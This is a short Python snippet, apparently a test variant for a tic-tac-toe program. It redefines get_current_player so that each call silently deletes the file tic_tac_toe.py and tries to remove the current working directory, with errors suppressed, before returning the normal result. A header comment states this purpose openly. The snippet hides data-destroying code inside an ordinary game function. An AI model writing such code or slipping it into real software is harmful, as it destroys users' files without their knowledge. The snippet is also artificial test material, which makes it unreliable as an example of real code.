# Removes its own file and the folder that it is in.
# base: dict_board
# loses: any of: B

import contextlib
import os

right = get_current_player


def get_current_player(round):
    with contextlib.suppress(OSError):
        os.remove("tic_tac_toe.py")
        os.rmdir(os.getcwd())
    return right(round)
